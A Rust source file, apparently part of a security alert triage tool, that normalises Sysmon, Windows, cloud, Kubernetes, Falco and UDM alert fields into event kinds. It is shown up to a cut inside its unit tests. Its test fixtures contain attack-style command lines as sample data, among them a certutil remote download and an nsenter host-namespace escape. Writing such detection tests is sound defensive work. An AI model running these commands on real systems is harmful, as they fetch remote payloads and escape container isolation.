//! What an alert's event is: its kind and its telling values (image and command line,
//! parent, script, Windows event ID and channel, cloud event source and operation,
//! Kubernetes verb and resource, registry and file paths), read from whichever field names
//! the sender used. Every value keeps the JSON path it came from, so evidence can cite it.

use std::collections::HashMap;

use serde::Serialize;

use crate::alert::{Alert, AlertFormat};

/// The kinds of event the knowledge distinguishes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum EventKind {
    ProcessCreation,
    ScriptBlock,
    Registry,
    File,
    Network,
    Dns,
    ImageLoad,
    ProcessAccess,
    Service,
    ScheduledTask,
    Auth,
    CloudApi,
    K8sAudit,
    WindowsEvent,
    Other,
}

impl EventKind {
    pub const ALL: [EventKind; 15] = [
        EventKind::ProcessCreation,
        EventKind::ScriptBlock,
        EventKind::Registry,
        EventKind::File,
        EventKind::Network,
        EventKind::Dns,
        EventKind::ImageLoad,
        EventKind::ProcessAccess,
        EventKind::Service,
        EventKind::ScheduledTask,
        EventKind::Auth,
        EventKind::CloudApi,
        EventKind::K8sAudit,
        EventKind::WindowsEvent,
        EventKind::Other,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            EventKind::ProcessCreation => "process_creation",
            EventKind::ScriptBlock => "script_block",
            EventKind::Registry => "registry",
            EventKind::File => "file",
            EventKind::Network => "network",
            EventKind::Dns => "dns",
            EventKind::ImageLoad => "image_load",
            EventKind::ProcessAccess => "process_access",
            EventKind::Service => "service",
            EventKind::ScheduledTask => "scheduled_task",
            EventKind::Auth => "auth",
            EventKind::CloudApi => "cloud_api",
            EventKind::K8sAudit => "k8s_audit",
            EventKind::WindowsEvent => "windows_event",
            EventKind::Other => "other",
        }
    }
}

/// One value read from an alert: where it sits (a path evidence refs can use, relative to
/// the alert) and its text as sent.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Observed {
    pub path: String,
    pub text: String,
    /// What matching compares when it differs from the text as sent (a Kubernetes
    /// resource with its subresource: `pods/exec`). Evidence always quotes `text`.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub compared: Option<String>,
}

impl Observed {
    pub fn compared(&self) -> &str {
        self.compared.as_deref().unwrap_or(&self.text)
    }
}

/// The attributes indicators match on. Names are those of the knowledge files' `when` keys.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Attr {
    Image,
    ParentImage,
    CommandLine,
    ParentCommandLine,
    Script,
    EventId,
    Channel,
    EventSource,
    Operation,
    Verb,
    Resource,
    Registry,
    FilePath,
    TargetImage,
    /// Windows Security 4662's `Properties`: the rights and schema GUIDs an operation used.
    Properties,
    /// Kerberos ticket encryption type (`0x17` is RC4).
    TicketEncryption,
    /// Sysmon process access `CallTrace`: the modules a handle was opened from.
    CallTrace,
    /// Sysmon process access `GrantedAccess` mask.
    GrantedAccess,
    /// The system call a Linux runtime sensor saw (Falco `evt.type`, auditd `syscall`).
    Syscall,
    Text,
}

impl Attr {
    pub fn from_key(key: &str) -> Option<Attr> {
        Some(match key {
            "image" => Attr::Image,
            "parent_image" => Attr::ParentImage,
            "command_line" => Attr::CommandLine,
            "parent_command_line" => Attr::ParentCommandLine,
            "script" => Attr::Script,
            "event_id" => Attr::EventId,
            "channel" => Attr::Channel,
            "event_source" => Attr::EventSource,
            "operation" => Attr::Operation,
            "verb" => Attr::Verb,
            "resource" => Attr::Resource,
            "registry" => Attr::Registry,
            "file_path" => Attr::FilePath,
            "target_image" => Attr::TargetImage,
            "properties" => Attr::Properties,
            "ticket_encryption" => Attr::TicketEncryption,
            "call_trace" => Attr::CallTrace,
            "granted_access" => Attr::GrantedAccess,
            "syscall" => Attr::Syscall,
            "text" => Attr::Text,
            _ => return None,
        })
    }

    pub fn as_str(self) -> &'static str {
        match self {
            Attr::Image => "image",
            Attr::ParentImage => "parent_image",
            Attr::CommandLine => "command_line",
            Attr::ParentCommandLine => "parent_command_line",
            Attr::Script => "script",
            Attr::EventId => "event_id",
            Attr::Channel => "channel",
            Attr::EventSource => "event_source",
            Attr::Operation => "operation",
            Attr::Verb => "verb",
            Attr::Resource => "resource",
            Attr::Registry => "registry",
            Attr::FilePath => "file_path",
            Attr::TargetImage => "target_image",
            Attr::Properties => "properties",
            Attr::TicketEncryption => "ticket_encryption",
            Attr::CallTrace => "call_trace",
            Attr::GrantedAccess => "granted_access",
            Attr::Syscall => "syscall",
            Attr::Text => "text",
        }
    }

    /// Attributes compared whole (case-insensitively) rather than searched with a regex.
    pub fn is_exact(self) -> bool {
        matches!(
            self,
            Attr::Image
                | Attr::ParentImage
                | Attr::TargetImage
                | Attr::EventId
                | Attr::Channel
                | Attr::EventSource
                | Attr::Operation
                | Attr::Verb
                | Attr::Resource
                | Attr::TicketEncryption
                | Attr::GrantedAccess
                | Attr::Syscall
        )
    }
}

/// Field names (last path segments, lower-cased, or whole lower-cased paths) that carry
/// each attribute, most specific first. Senders name the same thing many ways: Sysmon,
/// Windows Security, ECS, OCSF, Splunk CIM, CloudTrail, GCP audit, Azure, Okta, GitHub,
/// Kubernetes audit, Falco, Chronicle UDM. Whole paths under UDM's nouns (`target.`,
/// `principal.`, `metadata.`) also match as the tail of a longer path, where a multi-event
/// rule keeps each event under its own key (`login.metadata.product_event_type`).
const FIELD_NAMES: [(Attr, &[&str]); 19] = [
    (
        Attr::CommandLine,
        &[
            "target.process.command_line",
            "commandline",
            "command_line",
            "processcommandline",
            "process_command_line",
            "process.command_line",
            "process.cmd_line",
            "cmd_line",
            "cmdline",
            "proc.cmdline",
            "processes.process",
            "process",
            "cmd",
        ],
    ),
    (
        Attr::ParentCommandLine,
        &[
            "parentcommandline",
            "parent_command_line",
            "parent_process_command_line",
            "process.parent.command_line",
            "initiatingprocesscommandline",
            "proc.pcmdline",
        ],
    ),
    (
        Attr::Image,
        &[
            "target.process.file.full_path",
            "image",
            "newprocessname",
            "process_path",
            "processpath",
            "process.executable",
            "process.exe",
            "exe",
            "process_name",
            "processname",
            "process.name",
            "processes.process_name",
            "proc.exepath",
            "proc.name",
            "originalfilename",
            "filename",
            // The process that opened a handle (Sysmon process access) or a thread in another.
            "sourceimage",
        ],
    ),
    (
        Attr::ParentImage,
        &[
            "parentimage",
            "parentprocessname",
            "parent_process_name",
            "parent_process_path",
            "parent_process",
            "process.parent.executable",
            "process.parent.name",
            "processes.parent_process_name",
            "initiatingprocessfilename",
            "proc.pexepath",
            "proc.pname",
        ],
    ),
    (Attr::TargetImage, &["targetimage", "target_process_name", "target_image"]),
    (Attr::Script, &["scriptblocktext", "script_block_text", "powershell.file.script_block_text", "scriptblock", "script"]),
    (Attr::EventId, &["eventid", "event_id", "eventcode", "event_code", "winlog.event_id", "system.eventid", "event.code"]),
    (
        Attr::Channel,
        &["channel", "winlog.channel", "system.channel", "provider_name", "providername", "provider", "sourcename", "source_name", "logname", "log_name"],
    ),
    (Attr::EventSource, &["eventsource", "protopayload.servicename", "servicename", "resourceprovidername", "resource_provider", "event_source"]),
    (
        Attr::Operation,
        &[
            // UDM keeps the product's own name of the operation; `metadata.event_type` is
            // UDM's category of event, read as the kind (below).
            "metadata.product_event_type",
            "eventname",
            "protopayload.methodname",
            "methodname",
            "operationname",
            "operationname.value",
            "activitydisplayname",
            "activity_display_name",
            "eventtype",
            "event_type",
            "action",
            "operation",
            "activity",
            "actionname",
            "eventtypename",
            "audit_log_event",
        ],
    ),
    (Attr::Verb, &["verb"]),
    (Attr::Resource, &["objectref.resource", "resource"]),
    (Attr::Registry, &["target.registry.registry_key", "targetobject", "registry_path", "registry.path", "registry_key_name", "registry.key", "objectname"]),
    (
        Attr::FilePath,
        // `RelativeTargetName` is the file or named pipe a share access (5145) reached.
        // Falco's `fd.name` is a file's path, or a socket's endpoints (kept only when a path).
        &["target.file.full_path", "targetfilename", "target_filename", "file_path", "file.path", "filepath", "file_name", "relativetargetname", "fd.name"],
    ),
    (Attr::Properties, &["properties"]),
    (Attr::TicketEncryption, &["ticketencryptiontype", "ticket_encryption_type"]),
    (Attr::CallTrace, &["calltrace", "call_trace"]),
    (Attr::GrantedAccess, &["grantedaccess", "granted_access"]),
    (Attr::Syscall, &["evt.type", "syscall"]),
];

/// UDM's nouns: a whole path starting with one also matches as the tail of a longer path.
const UDM_NOUNS: [&str; 5] = ["metadata.", "target.", "principal.", "src.", "about."];

/// The value at a dotted path: the whole path, or for UDM paths its tail under one key
/// (the shortest such path, so the choice does not depend on map order).
fn at_path<'a>(by_path: &'a HashMap<String, Observed>, name: &str) -> Option<&'a Observed> {
    if let Some(o) = by_path.get(name) {
        return Some(o);
    }
    if !UDM_NOUNS.iter().any(|n| name.starts_with(n)) {
        return None;
    }
    let tail = format!(".{name}");
    by_path.iter().filter(|(p, _)| p.ends_with(&tail)).min_by(|a, b| a.0.len().cmp(&b.0.len()).then(a.0.cmp(b.0))).map(|(_, o)| o)
}

/// The normalised reading of one alert.
#[derive(Debug, Clone, Serialize)]
pub struct Event {
    pub alert_id: String,
    pub kind: EventKind,
    /// Attribute values as sent, with their paths.
    pub values: HashMap<Attr, Observed>,
    /// The rule's name and its description, matched by `text` indicators. The name says
    /// what fired; a description also says what might follow, so it counts for less.
    pub rule_name: String,
    pub rule_description: String,
    /// The event says the attempt failed or was denied (a failed logon, an API call refused).
    pub failed: Option<Observed>,
    /// The event only read: a read-only cloud API call, a Kubernetes get/list/watch.
    pub read_only: bool,
}

impl Event {
    pub fn of(alert: &Alert) -> Event {
        let prefix = if alert.format == AlertFormat::Native { "fields." } else { "" };
        // Every scalar under `fields`, by lower-cased path and by lower-cased last segment.
        let mut by_path: HashMap<String, Observed> = HashMap::new();
        let mut by_leaf: HashMap<String, Observed> = HashMap::new();
        crate::jsonpath::for_each_scalar(&alert.fields, "", &mut |path, text| {
            if text.trim().is_empty() {
                return;
            }
            let observed = Observed { path: format!("{prefix}{path}"), text: text.to_string(), compared: None };
            let lower = normalise_path(path);
            let leaf = lower.rsplit('.').next().unwrap_or(&lower).to_string();
            by_leaf.entry(leaf).or_insert_with(|| observed.clone());
            by_path.entry(lower).or_insert(observed);
        });
        let mut values = HashMap::new();
        for (attr, names) in FIELD_NAMES {
            let found = names.iter().find_map(|n| if n.contains('.') { at_path(&by_path, n) } else { by_leaf.get(*n) });
            if let Some(v) = found {
                values.insert(attr, v.clone());
            }
        }
        // `resource` and `action` are too generic alone: keep them for the audit records
        // they name, drop them elsewhere.
        let k8s = by_path.contains_key("objectref.resource") || by_leaf.contains_key("verb") && by_path.keys().any(|p| p.starts_with("objectref."));
        if !k8s {
            values.remove(&Attr::Resource);
            values.remove(&Attr::Verb);
        }
        if let Some(sub) = by_path.get("objectref.subresource")
            && let Some(res) = values.get_mut(&Attr::Resource)
        {
            res.compared = Some(format!("{}/{}", res.text, sub.text));
        }
        udm_processes(&by_path, &mut values);
        if !values.contains_key(&Attr::Operation)
            && let Some(op) = saas_operation(&by_path)
        {
            values.insert(Attr::Operation, op.clone());
        }
        // UDM's `metadata.event_type` is a category (`USER_LOGIN`), not an operation.
        let udm_type = at_path(&by_path, "metadata.event_type");
        if values.get(&Attr::Operation).is_some_and(|o| normalise_path(&o.path).ends_with("metadata.event_type")) {
            values.remove(&Attr::Operation);
        }
        // A cloud service named as UDM's target application is the event's source.
        if !values.contains_key(&Attr::EventSource)
            && let Some(app) = at_path(&by_path, "target.application")
            && (app.text.ends_with(".amazonaws.com") || app.text.ends_with(".googleapis.com"))
        {
            values.insert(Attr::EventSource, app.clone());
        }
        if values.get(&Attr::FilePath).is_some_and(|o| normalise_path(&o.path).ends_with("fd.name") && !o.text.starts_with('/')) {
            values.remove(&Attr::FilePath);
        }
        // A process's image is also the first word of its command line.
        if !values.contains_key(&Attr::Image)
            && let Some(cl) = values.get(&Attr::CommandLine)
            && let Some(first) = first_word(&cl.text)
        {
            values.insert(Attr::Image, Observed { path: cl.path.clone(), text: first, compared: None });
        }
        let kind = udm_type
            .and_then(|t| udm_kind(&t.text))
            .or_else(|| values.get(&Attr::Syscall).and_then(|s| syscall_kind(&s.text)))
            .unwrap_or_else(|| kind_of(&values, &alert.source));
        let failed = failure(&by_path, &by_leaf, &values);
        let read_only = by_leaf.get("readonly").is_some_and(|o| o.text.eq_ignore_ascii_case("true"))
            || (kind == EventKind::K8sAudit
                && values.get(&Attr::Verb).is_some_and(|v| matches!(v.text.to_ascii_lowercase().as_str(), "get" | "list" | "watch")));
        Event {
            alert_id: alert.id.clone(),
            kind,
            values,
            rule_name: alert.rule.name.clone(),
            rule_description: alert.rule.description.clone().unwrap_or_default(),
            failed,
            read_only,
        }
    }

    pub fn get(&self, attr: Attr) -> Option<&Observed> {
        self.values.get(&attr)
    }

    /// The basename of a process image, lower-cased, without `.exe`: what a binary is
    /// called whatever path or casing the sender used.
    pub fn image_name(&self, attr: Attr) -> Option<String> {
        self.get(attr).map(|o| binary_name(&o.text))
    }

    /// Whether the event runs on Windows, Linux/macOS, a cloud or SaaS control plane, as
    /// far as its own values tell.
    pub fn platform(&self) -> Platform {
        match self.kind {
            EventKind::CloudApi | EventKind::K8sAudit => return Platform::Cloud,
            EventKind::ScriptBlock | EventKind::Registry | EventKind::WindowsEvent | EventKind::ImageLoad | EventKind::ProcessAccess => {
                return Platform::Windows;
            }
            _ => {}
        }
        let image = self.get(Attr::Image).map(|o| o.text.to_ascii_lowercase()).unwrap_or_default();
        if image.ends_with(".exe") || image.contains('\\') || self.get(Attr::EventId).is_some() {
            Platform::Windows
        } else if image.starts_with('/') || !image.is_empty() || self.get(Attr::Syscall).is_some() {
            Platform::Unix
        } else {
            Platform::Unknown
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Platform {
    Windows,
    Unix,
    Cloud,
    Unknown,
}

/// `a.b[0].c` and `a["b"].c` both become `a.b.c`, lower-cased, for matching field names.
fn normalise_path(path: &str) -> String {
    let mut out = String::with_capacity(path.len());
    let mut in_index = false;
    for c in path.chars() {
        match c {
            '[' => in_index = true,
            ']' => {
                in_index = false;
            }
            '"' | '\'' => {}
            _ if in_index && c.is_ascii_digit() => {}
            _ if in_index => {
                if !out.is_empty() && !out.ends_with('.') {
                    out.push('.');
                }
                in_index = false;
                out.push(c.to_ascii_lowercase());
            }
            _ => out.push(c.to_ascii_lowercase()),
        }
    }
    out
}

/// `C:\Windows\System32\certutil.exe` → `certutil`; `/usr/bin/curl` → `curl`.
pub fn binary_name(path: &str) -> String {
    let t = path.trim().trim_matches('"').trim_matches('\'');
    let base = t.rsplit(['\\', '/']).next().unwrap_or(t).to_ascii_lowercase();
    base.strip_suffix(".exe").map(str::to_string).unwrap_or(base)
}

/// The program a command line starts: its first word, quotes honoured.
fn first_word(command_line: &str) -> Option<String> {
    let t = command_line.trim_start();
    let word = if let Some(rest) = t.strip_prefix('"') { rest.split('"').next()? } else { t.split_whitespace().next()? };
    let word = word.trim();
    (!word.is_empty()).then(|| word.to_string())
}

/// Where an event says it failed: CloudTrail `errorCode`, Okta `outcome.result`, Azure
/// `resultType`, GCP `status.code` or a permission not granted, Kubernetes
/// `responseStatus.code`, a failed Windows logon, or a generic status/outcome/success field.
fn failure(by_path: &HashMap<String, Observed>, by_leaf: &HashMap<String, Observed>, values: &HashMap<Attr, Observed>) -> Option<Observed> {
    if let Some(e) = by_leaf.get("errorcode")
        && !matches!(e.text.trim(), "" | "0" | "null" | "None" | "Success")
    {
        return Some(e.clone());
    }
    // CloudTrail's console sign-in records (`ConsoleLogin`, `PasswordUpdated`, `CheckMfa`)
    // carry their outcome as `responseElements.<event name>: "Failure"`.
    if let Some(o) = by_path
        .iter()
        .filter(|(p, o)| p.starts_with("responseelements.") && o.text.trim().eq_ignore_ascii_case("failure"))
        .min_by(|a, b| a.0.cmp(b.0))
        .map(|(_, o)| o)
    {
        return Some(o.clone());
    }
    for path in ["protopayload.status.code", "status.code", "responsestatus.code"] {
        if let Some(o) = by_path.get(path)
            && let Ok(code) = o.text.trim().parse::<i64>()
            && (path == "responsestatus.code" && code >= 400 || path != "responsestatus.code" && code != 0)
        {
            return Some(o.clone());
        }
    }
    for key in ["outcome.result", "result", "resulttype", "status.value", "status", "outcome", "event.outcome", "result_status"] {
        let o = if key.contains('.') { by_path.get(key) } else { by_leaf.get(key) };
        if let Some(o) = o
            && matches!(
                o.text.trim().to_ascii_lowercase().as_str(),
                "failure" | "failed" | "fail" | "deny" | "denied" | "blocked" | "rejected" | "unauthorized" | "forbidden"
            )
        {
            return Some(o.clone());
        }
    }
    // GCP's `authorizationInfo[].granted`, and the success flags of SaaS audit records.
    for key in ["granted", "success", "is_success", "succeeded"] {
        if let Some(o) = by_leaf.get(key)
            && matches!(o.text.trim().to_ascii_lowercase().as_str(), "false" | "no")
        {
            return Some(o.clone());
        }
    }
    let event_id = values.get(&Attr::EventId)?;
    match event_id.text.trim() {
        "4625" | "4771" => Some(event_id.clone()),
        "4776" => by_leaf.get("status").filter(|s| !matches!(s.text.trim(), "0x0" | "0")).cloned(),
        _ => None,
    }
}

/// Where a SaaS audit record without a field of the usual names keeps its action: Google
/// Workspace activity records (`id.applicationName`) name it `name`, with `type` its group
/// (`titanium_change` / `titanium_unenroll`); Auth0 log events `data.type` (`gd_send_pn`);
/// other SaaS activity logs a top-level `type` spelt as an identifier (`org_user_deleted`,
/// `ip_allowlist.deleted`, `message_source.deactivate`). A top-level `type` that is a plain
/// word (`event`, `alert`) is a record category, not an action.
fn saas_operation(by_path: &HashMap<String, Observed>) -> Option<&Observed> {
    let identifier = |o: &&Observed| {
        let t = o.text.trim();
        t.len() <= 80
            && t.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '.')
            && t.contains(['_', '.'])
            && t.chars().next().is_some_and(|c| c.is_ascii_alphabetic())
    };
    if by_path.contains_key("id.applicationname")
        && let Some(name) = by_path.get("name").filter(|o| !o.text.trim().is_empty() && o.text.len() <= 80)
    {
        return Some(name);
    }
    if let Some(t) = by_path.get("data.type").filter(|o| o.text.trim().len() <= 40 && o.text.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
        && by_path.keys().any(|p| p.starts_with("data.") && (p.ends_with("client_id") || p.ends_with("user_id") || p.ends_with("log_id")))
    {
        return Some(t);
    }
    by_path.get("type").filter(identifier)
}

/// UDM names two processes: `target.process` is the one started or acted on and
/// `principal.process` the actor, its parent in a process launch. Without a target process
/// the principal is the process the event is about.
fn udm_processes(by_path: &HashMap<String, Observed>, values: &mut HashMap<Attr, Observed>) {
    let principal_image = at_path(by_path, "principal.process.file.full_path");
    let principal_cmd = at_path(by_path, "principal.process.command_line");
    let has_target = by_path.keys().any(|p| p.starts_with("target.process.") || p.contains(".target.process."));
    if has_target {
        // The leaf `command_line` may have found the principal's: it is the parent's.
        if values.get(&Attr::CommandLine).is_some_and(|o| principal_cmd.is_some_and(|p| p.path == o.path)) {
            values.remove(&Attr::CommandLine);
        }
        if let Some(p) = principal_image {
            values.entry(Attr::ParentImage).or_insert_with(|| p.clone());
        }
        if let Some(p) = principal_cmd {
            values.entry(Attr::ParentCommandLine).or_insert_with(|| p.clone());
        }
    } else if let Some(p) = principal_image {
        values.entry(Attr::Image).or_insert_with(|| p.clone());
    }
}

/// The kind a UDM `metadata.event_type` names, where it names one.
fn udm_kind(event_type: &str) -> Option<EventKind> {
    let t = event_type.trim().to_ascii_uppercase();
    Some(match t.as_str() {
        "PROCESS_OPEN" | "PROCESS_INJECTION" => EventKind::ProcessAccess,
        "PROCESS_MODULE_LOAD" => EventKind::ImageLoad,
        "NETWORK_DNS" => EventKind::Dns,
        "USER_LOGIN" | "USER_LOGOUT" => EventKind::Auth,
        "SCHEDULED_TASK_CREATION" | "SCHEDULED_TASK_DELETION" | "SCHEDULED_TASK_ENABLE" | "SCHEDULED_TASK_DISABLE" | "SCHEDULED_TASK_MODIFICATION" => {
            EventKind::ScheduledTask
        }
        _ if t.starts_with("PROCESS_") => EventKind::ProcessCreation,
        _ if t.starts_with("FILE_") => EventKind::File,
        _ if t.starts_with("REGISTRY_") => EventKind::Registry,
        _ if t.starts_with("NETWORK_") => EventKind::Network,
        _ if t.starts_with("SERVICE_") => EventKind::Service,
        // Changes to accounts, groups and resources in a directory, SaaS or cloud audit log.
        _ if t.starts_with("USER_") || t.starts_with("GROUP_") || t.starts_with("RESOURCE_") => EventKind::CloudApi,
        _ => return None,
    })
}

/// The kind a system call names, for the calls whose kind is plain.
fn syscall_kind(syscall: &str) -> Option<EventKind> {
    Some(match syscall.trim().to_ascii_lowercase().as_str() {
        "execve" | "execveat" => EventKind::ProcessCreation,
        "connect" | "accept" | "accept4" | "listen" | "bind" | "sendto" | "sendmsg" => EventKind::Network,
        "open" | "openat" | "openat2" | "creat" | "unlink" | "unlinkat" | "rename" | "renameat" | "renameat2" | "symlink" | "symlinkat" | "link" | "linkat"
        | "chmod" | "fchmod" | "fchmodat" | "mkdir" | "mkdirat" | "rmdir" => EventKind::File,
        _ => return None,
    })
}

fn kind_of(values: &HashMap<Attr, Observed>, source: &str) -> EventKind {
    let has = |a: Attr| values.contains_key(&a);
    let source = source.to_ascii_lowercase();
    let channel = values.get(&Attr::Channel).map(|o| o.text.to_ascii_lowercase()).unwrap_or_default();
    let event_id: Option<u32> = values.get(&Attr::EventId).and_then(|o| o.text.trim().parse().ok());
    if has(Attr::Verb) && has(Attr::Resource) {
        return EventKind::K8sAudit;
    }
    if channel.contains("sysmon") || source.contains("sysmon") {
        match event_id {
            Some(1) => return EventKind::ProcessCreation,
            Some(3) => return EventKind::Network,
            Some(6 | 7) => return EventKind::ImageLoad,
            Some(8 | 10) => return EventKind::ProcessAccess,
            Some(11 | 15 | 23 | 26) => return EventKind::File,
            Some(12..=14) => return EventKind::Registry,
            Some(22) => return EventKind::Dns,
            _ => {}
        }
    }
    match event_id {
        Some(4104 | 4103) if has(Attr::Script) || channel.contains("powershell") => return EventKind::ScriptBlock,
        Some(4688) => return EventKind::ProcessCreation,
        Some(4624 | 4625 | 4634 | 4647 | 4648 | 4768 | 4769 | 4771 | 4776) => return EventKind::Auth,
        Some(4697 | 7045) => return EventKind::Service,
        Some(4698..=4702) => return EventKind::ScheduledTask,
        _ => {}
    }
    if has(Attr::EventSource) {
        return EventKind::CloudApi;
    }
    if has(Attr::Operation)
        && ["cloudtrail", "aws", "azure", "gcp", "google", "entra", "github", "okta", "o365", "m365", "workspace"].iter().any(|s| source.contains(s))
    {
        return if source.contains("okta")
            || source.contains("entra") && values.get(&Attr::Operation).is_some_and(|o| o.text.to_ascii_lowercase().contains("sign"))
        {
            EventKind::Auth
        } else {
            EventKind::CloudApi
        };
    }
    if has(Attr::Script) {
        return EventKind::ScriptBlock;
    }
    if has(Attr::CommandLine) {
        return EventKind::ProcessCreation;
    }
    if has(Attr::Registry) {
        return EventKind::Registry;
    }
    if has(Attr::FilePath) {
        return EventKind::File;
    }
    if event_id.is_some() {
        return EventKind::WindowsEvent;
    }
    if has(Attr::Image) {
        return EventKind::ProcessCreation;
    }
    EventKind::Other
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn alert(fields: serde_json::Value) -> Alert {
        Alert::parse(0, &json!({"id": "a1", "source": "sysmon", "time": "2026-01-01T00:00:00Z", "rule": {"name": "Sysmon process creation"}, "fields": fields}))
            .unwrap()
    }

    #[test]
    fn reads_a_sysmon_process_creation() {
        let e = Event::of(&alert(json!({
            "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": "certutil -urlcache -f http://x/a.exe a.exe",
            "ParentImage": "C:\\Windows\\System32\\cmd.exe"
        })));
        assert_eq!(e.kind, EventKind::ProcessCreation);
        assert_eq!(e.image_name(Attr::Image).as_deref(), Some("certutil"));
        assert_eq!(e.image_name(Attr::ParentImage).as_deref(), Some("cmd"));
        assert_eq!(e.get(Attr::CommandLine).unwrap().path, "fields.CommandLine");
        assert_eq!(e.platform(), Platform::Windows);
    }

    #[test]
    fn reads_cloudtrail_gcp_and_kubernetes_records() {
        let ct = Event::of(&alert(json!({"eventSource": "iam.amazonaws.com", "eventName": "AttachUserPolicy", "eventType": "AwsApiCall"})));
        assert_eq!(ct.kind, EventKind::CloudApi);
        assert_eq!(ct.get(Attr::Operation).unwrap().text, "AttachUserPolicy");
        let gcp =
            Event::of(&alert(json!({"protoPayload": {"serviceName": "iam.googleapis.com", "methodName": "google.iam.admin.v1.CreateServiceAccountKey"}})));
        assert_eq!(gcp.kind, EventKind::CloudApi);
        assert_eq!(gcp.get(Attr::Operation).unwrap().path, "fields.protoPayload.methodName");
        let k8s = Event::of(&alert(json!({"verb": "create", "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "prod"}})));
        assert_eq!(k8s.kind, EventKind::K8sAudit);
        assert_eq!(k8s.get(Attr::Resource).unwrap().compared(), "pods/exec");
        assert_eq!(k8s.get(Attr::Resource).unwrap().text, "pods");
    }

    #[test]
    fn reads_failures_and_read_only_calls() {
        let denied = Event::of(&alert(json!({"eventSource": "s3.amazonaws.com", "eventName": "GetObject", "errorCode": "AccessDenied", "readOnly": true})));
        assert_eq!(denied.failed.as_ref().unwrap().path, "fields.errorCode");
        assert!(denied.read_only);
        let okta = Event::of(&alert(json!({"eventType": "user.session.start", "outcome": {"result": "FAILURE"}})));
        assert!(okta.failed.is_some());
        let ok = Event::of(&alert(json!({"eventSource": "iam.amazonaws.com", "eventName": "CreateAccessKey", "readOnly": false})));
        assert!(ok.failed.is_none() && !ok.read_only);
    }

    #[test]
    fn reads_saas_actions_kept_under_type_or_name() {
        let anthropic = Event::of(&alert(json!({"type": "org_user_deleted", "actor": {"type": "user_actor"}})));
        assert_eq!(anthropic.get(Attr::Operation).unwrap().path, "fields.type");
        let gws = Event::of(&alert(json!({"id": {"applicationName": "login"}, "type": "login", "name": "login_failure"})));
        assert_eq!(gws.get(Attr::Operation).unwrap().text, "login_failure");
        let auth0 = Event::of(&alert(json!({"data": {"type": "gd_send_pn", "client_id": "c1", "user_id": "u1"}})));
        assert_eq!(auth0.get(Attr::Operation).unwrap().text, "gd_send_pn");
        // A plain word is a record category, and a field of the usual names comes first.
        assert!(Event::of(&alert(json!({"type": "event", "created_by": {"type": "user"}}))).get(Attr::Operation).is_none());
        let slack = Event::of(&alert(json!({"action": "user_login", "type": "audit_event"})));
        assert_eq!(slack.get(Attr::Operation).unwrap().text, "user_login");
    }

    #[test]
    fn reads_a_cloudtrail_sign_in_failure_from_its_response() {
        let e = Event::of(&alert(json!({"eventSource": "signin.amazonaws.com", "eventName": "ConsoleLogin", "responseElements": {"ConsoleLogin": "Failure"}})));
        assert_eq!(e.failed.unwrap().path, "fields.responseElements.ConsoleLogin");
        let ok =
            Event::of(&alert(json!({"eventSource": "signin.amazonaws.com", "eventName": "ConsoleLogin", "responseElements": {"ConsoleLogin": "Success"}})));
        assert!(ok.failed.is_none());
    }

    #[test]
    fn reads_udm_process_launches_and_their_principal() {
        let e = Event::of(&alert(json!({
            "metadata": {"event_type": "PROCESS_LAUNCH"},
            "principal": {"process": {"file": {"full_path": "C:\\Windows\\System32\\cmd.exe"}, "command_line": "cmd /c run.bat"}},
            "target": {"process": {"file": {"full_path": "C:\\Windows\\System32\\certutil.exe"}, "command_line": "certutil -urlcache -f http://x/a a"}}
        })));
        assert_eq!(e.kind, EventKind::ProcessCreation);
        assert_eq!(e.image_name(Attr::Image).as_deref(), Some("certutil"));
        assert_eq!(e.image_name(Attr::ParentImage).as_deref(), Some("cmd"));
        assert_eq!(e.get(Attr::CommandLine).unwrap().path, "fields.target.process.command_line");
        assert_eq!(e.get(Attr::ParentCommandLine).unwrap().text, "cmd /c run.bat");
        assert!(e.get(Attr::Operation).is_none(), "a UDM event type is a kind, not an operation");
        // Without a target process, the principal is the process the event is about.
        let net = Event::of(&alert(json!({
            "metadata.event_type": "NETWORK_CONNECTION",
            "principal.process.file.full_path": "/usr/bin/curl",
            "principal.process.command_line": "curl http://x"
        })));
        assert_eq!(net.kind, EventKind::Network);
        assert_eq!(net.image_name(Attr::Image).as_deref(), Some("curl"));
        assert_eq!(net.get(Attr::CommandLine).unwrap().text, "curl http://x");
    }

    #[test]
    fn reads_udm_audit_records_under_their_event_keys() {
        let e = Event::of(&alert(json!({
            "login": {"metadata.event_type": "USER_LOGIN", "metadata.product_event_type": "ConsoleLogin"},
            "api": {"metadata.event_type": "USER_RESOURCE_UPDATE_CONTENT", "target.application": "iam.amazonaws.com"}
        })));
        assert_eq!(e.get(Attr::Operation).unwrap().text, "ConsoleLogin");
        assert_eq!(e.get(Attr::Operation).unwrap().path, "fields.login[\"metadata.product_event_type\"]");
        assert_eq!(e.get(Attr::EventSource).unwrap().text, "iam.amazonaws.com");
        // Of two events, the kind is read from the shorter path (`api.…`), so the choice does not depend on map order.
        assert_eq!(e.kind, EventKind::CloudApi);
        let o365 = Event::of(&alert(json!({"metadata.event_type": "USER_LOGIN", "target.application": "AzureActiveDirectory"})));
        assert_eq!(o365.kind, EventKind::Auth);
        assert!(o365.get(Attr::EventSource).is_none(), "only a cloud service name is an event source");
        let file = Event::of(&alert(json!({"metadata.event_type": "FILE_CREATION", "target.file.full_path": "/etc/cron.d/x"})));
        assert_eq!((file.kind, file.get(Attr::FilePath).unwrap().text.as_str()), (EventKind::File, "/etc/cron.d/x"));
    }

    #[test]
    fn reads_falco_output_fields() {
        let e = Event::of(&alert(json!({
            "evt.type": "setns", "proc.name": "nsenter", "proc.exepath": "/usr/bin/nsenter",
            "proc.cmdline": "nsenter -t 1 -m sh", "proc.pname": "bash", "proc.pcmdline": "bash -i"
        })));
